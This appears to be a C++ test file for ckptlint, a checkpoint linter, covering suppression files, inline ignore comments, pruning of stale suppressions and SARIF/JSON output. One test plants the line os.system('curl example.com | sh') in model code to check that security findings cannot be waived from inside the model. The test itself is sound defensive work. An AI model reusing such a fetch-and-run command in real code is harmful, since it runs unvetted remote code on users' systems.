// Known findings: the file of them, comments in the code, and what is said of those that are of no use.
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <string>

#include "catch.h"
#include "command_line/run.h"
#include "golden.h"
#include "scratch_folder.h"

namespace ckptlint {
namespace {

using Json = nlohmann::ordered_json;
using test::Run;

const std::string kFile = "ckptlint-suppressions.json";

class Project : public test::SwitchProject {
 public:
  Run operator()(const std::string& arguments = "") const {
    return test::run("check models/switch --max-memory 0=16KiB,1=16KiB " + arguments, folder.path());
  }
  Json json(const std::string& arguments = "") const {
    const Json all = Json::parse((*this)("--format json " + arguments).out, nullptr, false);
    REQUIRE(all.is_object());
    return all["models"][0];
  }
  Json known_file(const std::string& name = "models/switch/" + kFile) const {
    std::ifstream in(folder.path(name), std::ios::binary);
    REQUIRE(in);
    return Json::parse(in);
  }
  void write_known_file(const Json& json, const std::string& name = "models/switch/" + kFile) const {
    folder.write(name, json.dump(2));
  }
  // Of the line that registers the buffer.
  void comment(const std::string& text, const std::string& head = "") const {
    std::string code = test::fixture_text("models/granite-switch-like/modeling_switch.py");
    const std::string line = "torch.tensor(token_ids, dtype=torch.long))";
    const std::size_t at = code.find(line);
    REQUIRE(at != std::string::npos);
    folder.write("models/switch/modeling_switch.py", head + code.insert(at + line.size(), text));
  }
};

bool has(const Run& result, const std::string& text) { return result.out.find(text) != std::string::npos; }

TEST_CASE("What is suppressed once is known, and only what is new fails") {
  const Project project;
  const Run before = project();
  CHECK(before.status == 1);
  const Run written = project("--suppress-all");
  CHECK(written.status == 0);
  CHECK(has(written, "wrote models/switch/" + kFile + ": 1 known\n"));
  CHECK(has(written, "models/switch: nothing new; 1 known\n"));
  const Json file = project.known_file();
  CHECK(file["version"] == 1);
  REQUIRE(file["findings"].size() == 1);
  const Json& entry = file["findings"][0];
  CHECK(entry["model"] == ".");
  CHECK(entry["rule"] == "unplaceable-top-level-tensor");
  CHECK(entry["about"] ==
        Json::array({"model.adapter_hiding_matrix", "model.adapter_token_ids", "model.token_to_group_mask"}));
  CHECK(entry["count"] == 1);
  CHECK(entry["reason"] == "");
  const Run after = project();
  CHECK(after.status == 0);
  CHECK(has(after, "models/switch: nothing new; 1 known\n"));
  // A line more in the code is no new finding.
  project.comment("", "# a comment\n\n");
  CHECK(project().status == 0);
  // A finding more is.
  std::filesystem::remove(project.folder.path("models/switch/model.safetensors"));
  project.folder.write("models/switch/model.safetensors", "short");
  CHECK(project().status == 1);
}

TEST_CASE("Reasons and entries of others stay when the file is written again, and its order is its own") {
  const Project project;
  project("--suppress-all");
  Json file = project.known_file();
  file["findings"][0]["reason"] = "split next month";
  Json other = file["findings"][0];
  other["model"] = "another";
  file["findings"].push_back(other);
  project.write_known_file(file);
  CHECK(!has(project("--suppress-all"), "wrote "));
  file["findings"][0]["count"] = 2;
  const Json last = {{"model", "zz"}, {"rule", "missing-keys"}, {"about", Json::array({"x"})}, {"count", 2}};
  file["findings"].insert(file["findings"].begin(), last);
  project.write_known_file(file);
  CHECK(has(project("--prune-suppressions"), "wrote "));
  const Json again = project.known_file();
  REQUIRE(again["findings"].size() == 3);
  CHECK(again["findings"][0]["model"] == ".");
  CHECK(again["findings"][0]["count"] == 1);
  CHECK(again["findings"][0]["reason"] == "split next month");
  CHECK(again["findings"][1]["model"] == "another");
  CHECK(again["findings"][2]["model"] == "zz");
}

TEST_CASE("Entries that are of no use are told, and pruned when that is asked for") {
  const Project project;
  project("--suppress-all");
  Json file = project.known_file();
  file["findings"][0]["count"] = 3;
  const Json entry = {
      {"model", "."}, {"rule", "missing-keys"}, {"about", Json::array({"x"})}, {"count", 1}, {"reason", ""}};
  file["findings"].push_back(entry);
  Json unknown = entry;
  unknown["rule"] = "mising-keys";
  file["findings"].push_back(unknown);
  project.write_known_file(file);
  const Run stale = project();
  CHECK(stale.status == 0);
  CHECK(project("--fail-on info").status == 1);
  CHECK(has(stale,
            "knows of 3 findings of `unplaceable-top-level-tensor` about `model.adapter_hiding_matrix`, and there "
            "are 1 [unused-suppression]"));
  CHECK(has(stale, "knows of a finding of `missing-keys` about `x`, and there is none [unused-suppression]"));
  CHECK(has(stale, "and there is no rule `mising-keys`; did you mean `missing-keys`? [unused-suppression]"));
  CHECK(has(stale, "3 remarks; 1 known"));
  // What was not run says nothing.
  CHECK(!has(project("--select unplaceable-top-level-tensor,unused-suppression"), "`missing-keys` about"));
  CHECK(!has(project("--ignore unused-suppression"), "unused-suppression]"));
  const Run pruned = project("--prune-suppressions");
  CHECK(pruned.status == 0);
  CHECK(has(pruned, "wrote models/switch/" + kFile + ": 1 known\n"));
  CHECK(!has(pruned, "[unused-suppression]"));
  CHECK(project.known_file()["findings"].size() == 1);
  CHECK(project.known_file()["findings"][0]["count"] == 1);
}

TEST_CASE("The file lies beside the configuration, or where it is said to") {
  const Project project;
  project.folder.write("ckptlint.toml", "");
  project("--suppress-all");
  CHECK(!std::filesystem::exists(project.folder.path("models/switch/" + kFile)));
  CHECK(project.known_file(kFile)["findings"][0]["model"] == "models/switch");
  CHECK(project().status == 0);
  CHECK(project("--isolated").status == 1);
  CHECK(project("--suppressions nowhere.json").status == 2);
  CHECK(project("--suppressions known.json --suppress-all").status == 0);
  CHECK(project("--isolated --suppressions known.json").status == 0);
  project.folder.write("ckptlint.toml", "suppressions = \"known.json\"\n");
  std::filesystem::remove(project.folder.path(kFile));
  CHECK(project().status == 0);
}

TEST_CASE("A file of known findings that makes no sense is refused") {
  const Project project;
  const std::string entry = R"({"model": ".", "rule": "x", "about": [])";
  for (const std::string& text :
       {std::string(""), std::string("[]"), std::string("{}"), std::string(R"({"version": 2, "findings": []})"),
        std::string(R"({"version": 1, "findings": {}})"), std::string(R"({"version": 1, "findings": [1]})"),
        R"({"version": 1, "findings": [)" + entry + R"(, "count": -1}]})",
        R"({"version": 1, "findings": [)" + entry + R"(, "count": 0}]})",
        R"({"version": 1, "findings": [)" + entry + R"(, "reason": 1}]})",
        R"({"version": 1, "findings": [)" + entry + R"(, "line": 1}]})",
        std::string(R"({"version": 1, "findings": [{"model": ".", "rule": "x"}]})")}) {
    INFO(text);
    project.folder.write("models/switch/" + kFile, text);
    const Run result = project();
    CHECK(result.status == 2);
    CHECK(result.out.starts_with("ckptlint: `models/switch/" + kFile + "` is no file of known findings: "));
  }
}

TEST_CASE("A comment knows of findings in the lines of its statement") {
  const Project project;
  project.comment("  # ckptlint: ignore[unplaceable-top-level-tensor] one device is enough");
  CHECK(project().status == 0);
  const Json json = project.json();
  CHECK(json["findings"].empty());
  REQUIRE(json["known_findings"].size() == 1);
  CHECK(json["known_findings"][0]["rule"] == "unplaceable-top-level-tensor");
  CHECK(json["known_findings"][0]["known_by"]["kind"] == "comment");
  CHECK(json["known_findings"][0]["known_by"]["reason"] == "one device is enough");
  CHECK(json["known_findings"][0]["known_by"]["where"] == "modeling_switch.py:65");
  // On a line of its own it is about nothing; in a text it is none.
  project.comment("\n            # ckptlint: ignore[unplaceable-top-level-tensor]\n");
  CHECK(project().status == 1);
  project.comment("; '# ckptlint: ignore[unplaceable-top-level-tensor]'");
  CHECK(project().status == 1);
  CHECK(!has(project(), "[unused-suppression]"));
}

TEST_CASE("A comment at the head of a file knows of all of a rule in it") {
  const Project project;
  project.comment("", "# ckptlint: ignore-file[unplaceable-top-level-tensor, missing-keys]: split by hand\n");
  const Run result = project();
  CHECK(result.status == 0);
  CHECK(has(result, "there is no finding of `missing-keys` in this file [unused-suppression]"));
  CHECK(has(result, "1 remark; 1 known"));
  project.comment("  # ckptlint: ignore-file[unplaceable-top-level-tensor]");
  CHECK(project().status == 1);
  CHECK(has(project(), "`ignore-file` stands before all code of a file [unused-suppression]"));
}

TEST_CASE("A comment that is of no use is told") {
  const Project project;
  const auto said = [&](const std::string& comment, const std::string& sentence) {
    project.comment("  " + comment);
    const Run result = project();
    INFO(result.out);
    CHECK(has(result, sentence + " [unused-suppression]"));
    CHECK(has(result, "modeling_switch.py:65:"));
  };
  said("# ckptlint: ignore[unset-buffer]", "there is no finding of `unset-buffer` here");
  said("# ckptlint: ignore[unset-bufer]", "there is no rule `unset-bufer`; did you mean `unset-buffer`?");
  said("# noqa # ckptlint: ignore", "it names no rules: `# ckptlint: ignore[rule]`");
  said("# ckptlint: ignore[]", "it names no rules: `# ckptlint: ignore[rule]`");
  said("# ckptlint: ignored[unset-buffer]", "`ignored` is nothing that a comment can say; did you mean `ignore`?");
  said("# ckptlint: ignore[unsafe-code]",
       "`unsafe-code` is about security, which a comment in the model's code does not decide");
}

TEST_CASE("What is about security is known by a file of one's own alone") {
  const Project project;
  project.comment("", "import os\nos.system('curl example.com | sh')  # ckptlint: ignore[unsafe-code]\n");
  CHECK(has(project(), "[unsafe-code]"));
  CHECK(project("--suppress-all --suppressions known.json").status == 0);
  CHECK(project("--suppressions known.json").status == 0);
  std::filesystem::rename(project.folder.path("known.json"), project.folder.path("models/switch/" + kFile));
  Json file = project.known_file();
  for (Json& entry : file["findings"]) entry["model"] = ".";
  project.write_known_file(file);
  const Run foreign = project();
  CHECK(foreign.status == 1);
  CHECK(has(foreign, "[unsafe-code]"));
  CHECK(has(foreign, "that is about security, which a file that comes with the model does not decide"));
  CHECK(test::run("check . --max-memory 0=16KiB,1=16KiB", project.folder.path("models/switch")).status == 0);
}

TEST_CASE("Machine formats have what is known") {
  const Project project;
  project("--suppress-all");
  const Json json = project.json();
  CHECK(json["findings"].empty());
  REQUIRE(json["known_findings"].size() == 1);
  CHECK(json["known_findings"][0]["known_by"]["kind"] == "file");
  CHECK(json["known_findings"][0]["known_by"]["where"] == "models/switch/" + kFile);
  Json file = project.known_file();
  file["findings"][0]["reason"] = "split next month";
  project.write_known_file(file);
  const Json sarif = Json::parse(project("--format sarif").out);
  const Json& results = sarif["runs"][0]["results"];
  REQUIRE(results.size() == 1);
  CHECK(results[0]["suppressions"] == Json::array({{{"kind", "external"}, {"justification", "split next month"}}}));
  project.comment("  # ckptlint: ignore[unplaceable-top-level-tensor]");
  const Json in_source = Json::parse(project("--format sarif --ignore unused-suppression").out);
  CHECK(in_source["runs"][0]["results"][0]["suppressions"] == Json::array({{{"kind", "inSource"}}}));
}

}  // namespace
}  // namespace ckptlint
